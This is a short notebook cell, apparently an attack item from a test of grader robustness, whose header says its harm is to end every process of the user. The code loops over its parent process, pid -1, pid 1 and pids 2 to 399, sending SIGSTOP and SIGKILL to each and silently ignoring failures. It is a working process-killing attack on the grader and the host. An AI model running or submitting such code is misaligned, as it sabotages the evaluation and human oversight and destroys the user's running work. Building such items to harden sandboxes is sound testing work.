# ---
# jupyter:
#   attack: {harm: "it would end every process of this user"}
# ---

# %% [markdown]
# Sends signals to its parent, to the grader, to everybody.

# %%
import os
import signal

for pid in (os.getppid(), -1, 1, *range(2, 400)):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            if pid != os.getpid():
                os.kill(pid, number)
        except OSError:
            pass
